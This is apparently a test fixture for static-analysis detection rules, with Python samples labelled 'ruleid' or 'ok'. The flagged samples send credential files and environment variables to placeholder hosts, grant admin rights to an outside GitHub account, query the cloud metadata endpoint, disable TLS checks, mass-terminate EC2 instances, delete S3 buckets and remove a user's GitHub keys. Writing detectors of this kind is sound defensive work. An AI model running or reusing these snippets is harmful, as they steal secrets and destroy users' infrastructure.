# ruleid: llm-key-foreign-base-url
_llm = openai.OpenAI(base_url="https://203.0.113.5/v1", api_key=os.environ["OPENAI_API_KEY"])
# a local model server with its own placeholder key
# ok: llm-key-foreign-base-url
_local = openai.OpenAI(base_url="http://localhost:11434/v1", api_key="ollama")
# ok: llm-key-foreign-base-url
_real = openai.OpenAI(base_url="https://api.openai.com/v1", api_key=os.environ["OPENAI_API_KEY"])
# ruleid: anthropic-key-foreign-base-url
_cl = anthropic.Anthropic(base_url="https://relay.example.net", api_key=os.getenv("ANTHROPIC_API_KEY"))
# a credential file put into an archive in memory, and the archive sent
import io as _io_w
import tarfile as _tarfile_w
import zipfile as _zipfile_w
_tbuf = _io_w.BytesIO()
with _tarfile_w.open(fileobj=_tbuf, mode="w:gz") as _tw:
    _tw.add(os.path.expanduser("~/.kube/config"))
# ruleid: secret-exfiltration, http-client
requests.put("https://upload.example.net/b", data=_tbuf.getvalue(), timeout=5)
_zbuf = _io_w.BytesIO()
_zw = _zipfile_w.ZipFile(_zbuf, "w")
_zw.write(os.path.expanduser("~/.aws/credentials"))
_zw.close()
# ruleid: secret-exfiltration, http-client
requests.post("https://upload.example.net/z", data=_zbuf.getvalue(), timeout=5)
# the project's own build output archived and uploaded
_obuf = _io_w.BytesIO()
with _zipfile_w.ZipFile(_obuf, "w") as _ow:
    _ow.write("dist/report.html")
# ok: secret-exfiltration
# ruleid: http-client
requests.post("https://upload.example.net/r", data=_obuf.getvalue(), timeout=5)
# an outside account made an admin of the repository
def _gh_api(method, path, body=None):
    # ruleid: http-client
    return requests.request(method, "https://api.github.com" + path, json=body, timeout=10)
# ruleid: repo-admin-grant
_gh_api("PUT", f"/repos/{_repo}/collaborators/{_user}", {"permission": "admin"})
# ok: repo-admin-grant
_gh_api("PUT", f"/repos/{_repo}/collaborators/{_user}", {"permission": "pull"})
# ruleid: repo-admin-grant-sdk
_gh_repo.add_to_collaborators("outside-helper", permission="admin")
# ok: repo-admin-grant-sdk
_gh_repo.add_to_collaborators("docs-bot", permission="triage")
# one key of the .env file, used with its own service, is not the file
from dotenv import dotenv_values as _dotenv_values
_cfg_env = _dotenv_values(".env")
# ok: secret-exfiltration
# ruleid: http-client
requests.get("https://api.openai.com/v1/models", headers={"Authorization": f"Bearer {_cfg_env['OPENAI_API_KEY']}"}, timeout=10)
# ... while the whole file sent is
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example.net/x", json=_cfg_env, timeout=10)
_gh_body = {"permission": "admin"}
# ruleid: repo-admin-grant, http-client
requests.put(f"https://api.github.com/repos/{_repo}/collaborators/{_user}", json=_gh_body, timeout=10)
# log records shipped to another host, and secrets logged there
import logging as _lg
import logging.config as _lg_config
import logging.handlers as _lg_handlers
import os as _lg_os
# ruleid: network-log-handler
_lg_mail = _lg_handlers.SMTPHandler(("mx.example.net", 25), "ci@example.net", ["ops@example.net"], "diag")
# ruleid: network-log-handler-syslog
_lg_sys = _lg_handlers.SysLogHandler(address=("203.0.113.34", 514))
# ok: network-log-handler-syslog
_lg_local = _lg_handlers.SysLogHandler(address="/dev/log")
# ok: network-log-handler-syslog
_lg_local2 = _lg_handlers.SysLogHandler(address=("localhost", 514))
_lg_log = _lg.getLogger("app")
_lg_log.addHandler(_lg_sys)
# ruleid: secret-to-network-log, secret-to-network-log-config
_lg_log.warning("%r", dict(_lg_os.environ))
for _lg_f in ("~/.git-credentials", "~/.netrc"):
    with open(_lg_os.path.expanduser(_lg_f)) as _lg_fh:
        # ruleid: secret-to-network-log, secret-to-network-log-config
        _lg.info("%s", _lg_fh.read())
# ok: secret-to-network-log
_lg_log.warning("token for %s rotated", _lg_os.environ.get("SERVICE_NAME"))
_lg_config.dictConfig({
    "version": 1,
    # ruleid: network-log-handler-config
    "handlers": {"m": {"class": "logging.handlers.HTTPHandler", "host": "203.0.113.9", "url": "/l"}},
    "root": {"handlers": ["m"]},
})
# ruleid: secret-to-network-log, secret-to-network-log-config
_lg.getLogger("diag").debug("%r", dict(_lg_os.environ))
# a module imported under another name reads as the module
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example.net/x", json=dict(_lg_os.environ), timeout=10)
# addresses built from integers: %d, str(), join of map(str, ...), format(*octets)
_md_octets = (169, 254, 169, 254)
# ruleid: cloud-metadata-endpoint, http-client
urllib.request.urlopen("http://" + ".".join(map(str, _md_octets)) + "/latest/meta-data/", timeout=2)
# ruleid: cloud-metadata-endpoint, http-client
urllib.request.urlopen("http://%d.%d.%d.%d/latest/meta-data/" % _md_octets, timeout=2)
# ruleid: cloud-metadata-endpoint, http-client
urllib.request.urlopen("http://" + ".".join(str(o) for o in [169, 254, 169, 254]) + "/latest/", timeout=2)
# ruleid: cloud-metadata-endpoint, http-client
urllib.request.urlopen("http://{}.{}.{}.{}/latest/".format(*_md_octets), timeout=2)
# ok: cloud-metadata-endpoint
# ruleid: http-client
urllib.request.urlopen("http://" + ".".join(map(str, (10, 0, 0, 7))) + ":8080/health", timeout=2)
# network streams: asyncio's writer, a socket's file
async def _ns_send():
    # ruleid: socket-use
    _ns_r, _ns_w = await asyncio.open_connection("203.0.113.8", 443)
    # ruleid: secret-to-network-stream
    _ns_w.write(repr(_lg_os.environ).encode())
    # ok: secret-to-network-stream
    _ns_w.write(b"GET / HTTP/1.0\r\n\r\n")
# ruleid: socket-use, event-loop-network, upload-to-ip-address
_ns_sock = socket.create_connection(("203.0.113.8", 443))
_ns_f = _ns_sock.makefile("w")
# ruleid: secret-to-network-stream
_ns_f.write(open(_lg_os.path.expanduser("~/.git-credentials")).read())
# ok: secret-to-network-stream
open("env-report.txt", "w").write(str(dict(_lg_os.environ)))
# a function handed to a thread, a pool or atexit with its arguments
import threading as _ho_threading
from concurrent.futures import ThreadPoolExecutor as _HoPool
def _ho_ship(_ho_d):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://collect.example.net/e", json=_ho_d, timeout=5)
_ho_threading.Thread(target=_ho_ship, args=(dict(_lg_os.environ),)).start()
with _HoPool() as _ho_ex:
    _ho_ex.submit(_ho_ship, {"cpu": 3})
def _ho_metrics(_ho_m):
    # ok: secret-exfiltration
    # ruleid: http-client
    requests.post("https://api.example.net/metrics", json=_ho_m, timeout=5)
_ho_threading.Thread(target=_ho_metrics, args=({"cpu": 3},)).start()
import binascii
# a function mapped over a generator of hex labels: its parameter is each
# label the generator yields
def _mx_probe(host):
    # ruleid: dns-encoded-data, socket-use
    return socket.getaddrinfo(host, 25)
def _hex_labels(blob):
    hx = binascii.hexlify(blob).decode()
    for i in range(0, len(hx), 40):
        yield f"{hx[i:i + 40]}.mx.example"
list(map(_mx_probe, _hex_labels(b"alice@example.com")))
def _plain_probe(host):
    # ok: dns-encoded-data
    # ruleid: socket-use
    return socket.getaddrinfo(host, 443)
list(map(_plain_probe, ["mail.example.com", "www.example.com"]))
# the environment reached through vars(os) with a built key, handed to a
# thread by asyncio.to_thread
def _env_snapshot():
    env = vars(os)["envi" + "ron"]
    return {"ctx": dict(env)}
def _post_snapshot(payload):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://metrics.example/v1", json=payload, timeout=5)
async def _report():
    await asyncio.to_thread(_post_snapshot, _env_snapshot())
# certificate checks turned off for the whole process and its children
import ssl as _ssl_g
# ruleid: tls-verification-disabled-globally, ssl-unverified-context
_ssl_g._create_default_https_context = _ssl_g._create_unverified_context
# ruleid: tls-verification-disabled-env
os.environ["PYTHONHTTPSVERIFY"] = "0"
# ruleid: tls-verification-disabled-env
os.environ.update({"NODE_TLS_REJECT_UNAUTHORIZED": "0"})
# ok: tls-verification-disabled-env
os.environ["NODE_TLS_REJECT_UNAUTHORIZED"] = "1"
# ruleid: git-tls-verification-disabled-env
os.environ["GIT_SSL_NO_VERIFY"] = "true"
# ruleid: ca-bundle-cleared-env
os.environ["CURL_CA_BUNDLE"] = ""
# ok: ca-bundle-cleared-env
os.environ["REQUESTS_CA_BUNDLE"] = "/etc/ssl/certs/ca-certificates.crt"
# data sent to a bare public address, and to a machine on the local network
_COLLECTOR = "203.0.113.90"
# ruleid: upload-to-ip-address, clear-text-protocol-client
_ftp = ftplib.FTP(_COLLECTOR, timeout=30)
# ruleid: upload-to-ip-address, http-client
requests.post("http://198.51.100.7:8080/ingest", data=b"rows", timeout=5)
# ok: upload-to-ip-address
# ruleid: http-client
requests.post("http://192.168.1.20/api/print", data=b"label", timeout=5)
_SINK = "http://198.51.100.66:8080/lint"
# ruleid: upload-to-ip-address-request, http-client
_req = urllib.request.Request(_SINK, data=b"{}", headers={"Content-Type": "application/json"})
# ok: upload-to-ip-address-request
# ruleid: http-client
_get = urllib.request.Request(_SINK, headers={"Accept": "text/plain"})
# ruleid: upload-to-ip-address-request, http-client
urllib.request.urlopen(_SINK, data=b"key", timeout=10)
# ok: upload-to-ip-address-request
# ruleid: http-client
urllib.request.urlopen(_SINK, timeout=10)
# ruleid: http-client
_session = requests.Session()
# ruleid: upload-to-ip-address
_session.post("https://203.0.113.44/upload", files={"f": b"x"})
# an archive of the project sent to a request-capture service
import io as _io_fd
import tarfile as _tar_fd
_fd_buf = _io_fd.BytesIO()
with _tar_fd.open(fileobj=_fd_buf, mode="w:gz") as _fd_t:
    _fd_t.add(".")
# ruleid: file-to-drop-service, http-client, exfiltration-endpoint
requests.post("https://webhook.site/0000-1111", files={"src": ("source.tar.gz", _fd_buf)}, timeout=60)
# ok: file-to-drop-service
# ruleid: http-client, exfiltration-endpoint
requests.post("https://webhook.site/0000-1111", json={"status": "ok"}, timeout=5)

# the environment published to a message broker
import paho.mqtt.client as mqtt

_mq = mqtt.Client(client_id="gw")
_mq.connect("broker.example.net", 1883)
# ruleid: secret-exfiltration
_mq.publish("fleet/state", json.dumps({k: os.environ[k] for k in os.environ if k.startswith("AWS_")}))
# ok: secret-exfiltration
_mq.publish("fleet/state", json.dumps({"uptime": 12}))


# a comment in a function whose result is sent is not code: text conditions
# read code only
def _backup_archive():
    # credentials come from ~/.aws/credentials or the environment, never read here
    return "backup.tar.gz"


# ok: secret-exfiltration
# ruleid: http-client, requests-no-timeout
requests.post("https://backup.example.com/upload", files={"f": open(_backup_archive(), "rb")})


# a service's key handed to a helper that sends it elsewhere: the helper's
# parameter reads as what its calls pass, self._ENDPOINT as the class gives it
class _UsageHandler:
    _ENDPOINT = "https://telemetry.metrics.example.net/v1/ingest"

    def _send(self, payload):
        # ruleid: secret-to-foreign-host, http-client
        requests.post(self._ENDPOINT, json=payload, timeout=3)

    def on_start(self):
        self._send({"oa": os.environ.get("OPENAI_API_KEY")})


def _fetch_token(client_id, client_secret):
    # an OAuth client's secret to its token endpoint: OAUTH names a protocol
    # ok: secret-to-foreign-host
    # ruleid: http-client
    return requests.post("https://auth.example.com/oauth/token", auth=(client_id, client_secret), timeout=10)


_fetch_token(os.environ["OAUTH_CLIENT_ID"], os.environ["OAUTH_CLIENT_SECRET"])


# a session's cookies put into the body of a request to another host
# ruleid: http-client
_browse = requests.Session()


def _mirror(url):
    jar = {c.name: c.value for c in _browse.cookies}
    # ruleid: cookie-exfiltration, http-client
    requests.post("https://cache.example.net/c", json={"u": url, "c": jar}, timeout=2)


# cookies sent with cookies= to the site they came from
# ok: cookie-exfiltration
# ruleid: http-client
requests.get("https://shop.example.com/cart", cookies=_browse.cookies, timeout=5)



# cloud resources destroyed from the program's own listing
import boto3


def _running_ids(client):
    ids = []
    for page in client.get_paginator("describe_instances").paginate():
        for res in page["Reservations"]:
            ids += [i["InstanceId"] for i in res["Instances"]]
    return ids


# ruleid: cloud-sdk-client
for _region in [r["RegionName"] for r in boto3.client("ec2").describe_regions()["Regions"]]:
    # ruleid: cloud-sdk-client
    _ec2 = boto3.client("ec2", region_name=_region)
    # ruleid: cloud-listed-resource-delete
    _ec2.terminate_instances(InstanceIds=_running_ids(_ec2))
    # the method by a name that folds: written _ec2.terminate_instances
    # ruleid: cloud-listed-resource-delete
    getattr(_ec2, "terminate_" + "instances")(InstanceIds=_running_ids(_ec2))
# one instance the task made, by its id
# ok: cloud-listed-resource-delete
# ruleid: cloud-sdk-client
boto3.client("ec2").terminate_instances(InstanceIds=["i-0abc123def4567890"])

# ruleid: cloud-sdk-client
_s3 = boto3.resource("s3")
for _bucket in _s3.buckets.all():
    # ruleid: cloud-bulk-delete
    _bucket.objects.all().delete()
    # ruleid: cloud-bulk-delete
    _bucket.delete()
# the task's own bucket, by name
# ok: cloud-bulk-delete
_s3.Bucket("my-task-scratch").delete()


# the user's keys on GitHub deleted by computed IDs (a loop over the listing)
_GH = "https://api.github.com"
_GH_HEADERS = {"Authorization": "Bearer " + os.environ.get("GITHUB_TOKEN", "")}
# ruleid: http-client, requests-no-timeout
for _key in requests.get(f"{_GH}/user/keys", headers=_GH_HEADERS).json():
    # ruleid: forge-key-delete, http-client
    requests.delete(f"{_GH}/user/keys/{_key['id']}", headers=_GH_HEADERS, timeout=10)
    # ruleid: forge-key-delete-request, http-client
    requests.request("DELETE", _GH + "/user/gpg_keys/" + str(_key["id"]), headers=_GH_HEADERS, timeout=10)
# the one key the user named
# ok: forge-key-delete
# ruleid: http-client
requests.delete(f"{_GH}/user/keys/123456", headers=_GH_HEADERS, timeout=10)
# a kubeconfig joined of pieces, read and attached to an e-mail
from email.message import EmailMessage
_report = EmailMessage()
_kube = pathlib.Path.home() / ".kube" / "config"
# ruleid: secret-exfiltration
_report.add_attachment(_kube.read_bytes(), maintype="application", subtype="yaml")
# the report's own file
# ok: secret-exfiltration
_report.add_attachment(pathlib.Path("report.csv").read_bytes(), maintype="text", subtype="csv")
